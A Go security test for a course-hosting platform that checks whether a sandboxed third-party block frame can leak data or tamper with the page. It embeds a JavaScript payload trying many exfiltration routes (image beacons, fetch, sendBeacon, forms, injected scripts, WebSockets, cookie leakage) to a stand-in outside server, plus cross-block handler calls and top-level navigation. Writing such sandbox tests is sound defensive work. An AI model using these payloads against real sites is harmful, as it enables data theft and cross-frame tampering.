package host_test

import (
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
)

// hostile is the script of a foreign block that tries to carry away what it can; %s is where it would carry it. The last step
// says that all were tried.
const hostile = `<p id="state">trying</p><script>
const out = %q;
const tries = [
  () => { new Image().src = out + "/image"; },
  () => fetch(out + "/fetch", {mode: "no-cors"}),
  () => fetch("/courses", {credentials: "include"}).then(() => fetch(out + "/read")),
  () => navigator.sendBeacon(out + "/beacon", "x"),
  () => { window.open(out + "/window"); },
  () => { top.location = out + "/top"; },
  () => { parent.document.title = "taken"; },
  () => { document.cookie = "a=b"; new Image().src = out + "/cookie?" + document.cookie; },
  () => { localStorage.setItem("a", "b"); },
  () => { const f = document.createElement("form"); f.action = out + "/form"; document.body.append(f); f.submit(); },
  () => navigator.serviceWorker.register("/blocks/stranger/native-stranger-1.0.0/probe.js"),
  () => { const s = document.createElement("script"); s.src = out + "/script"; document.head.append(s); },
  () => { const f = document.createElement("iframe"); f.src = out + "/frame"; document.body.append(f); },
  () => new WebSocket(out.replace("http", "ws") + "/socket"),
];
addEventListener("load", async () => {
  for (const attempt of tries) { try { await attempt(); } catch {} }
  // A port is asked for again, and another block is called through it: the page adds the block, the frame cannot name one.
  window.quoin.call("../../block-v1:Org+Evil+now+type@probe+block@victim/handlers/set", "stolen").catch(() => {});
  await window.quoin.call("set", "tried all").catch(() => {});
  location.href = out + "/navigate";
});
</script>`

// A foreign block's frame gets nothing out: an outside listener stays silent, the page stays where it is, other blocks keep
// what they hold (security R3).
func TestHostileFrameInBrowser(t *testing.T) {
	var mu sync.Mutex
	var heard []string
	outside := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		heard = append(heard, r.URL.String())
	}))
	defer outside.Close()
	w := newWorld(t, options{})
	run := w.course(map[string]string{
		"course.xml": `<course url_name="now" org="Org" course="Evil"/>`,
		"course/now.xml": `<course display_name="Evil" start="&quot;2020-01-01T00:00:00Z&quot;"><chapter url_name="c"><sequential url_name="s"><vertical url_name="v">
			<stranger url_name="bad" html="` + html.EscapeString(fmt.Sprintf(hostile, outside.URL)) + `"/><probe url_name="victim" html="&lt;p&gt;victim&lt;/p&gt;"/></vertical></sequential></chapter></course>`,
	})
	b := w.newTab(t)
	user := w.account("ann", run, "")
	b.signIn("ann")
	b.open(unitPath(run, "v"))
	ann := w.enter(user)
	echo := blockPath(run, "stranger", "bad") + "/handlers/echo"
	w.eventually(func() bool { // the frame says through its own handler that it has tried all
		var reply struct{ Word string }
		ann.get(echo).must(200).json(&reply)
		return reply.Word == `"tried all"`
	})
	ann.get(unitPath(run, "v")).must(200).without("stolen")
	mu.Lock()
	defer mu.Unlock()
	if len(heard) > 0 {
		t.Errorf("the outside heard %v", heard)
	}
	if at := b.text(`location.pathname`); at != unitPath(run, "v") {
		t.Errorf("the page went to %s", at)
	}
	if title := b.text(`document.title`); title == "taken" {
		t.Error("the frame changed the page")
	}
}
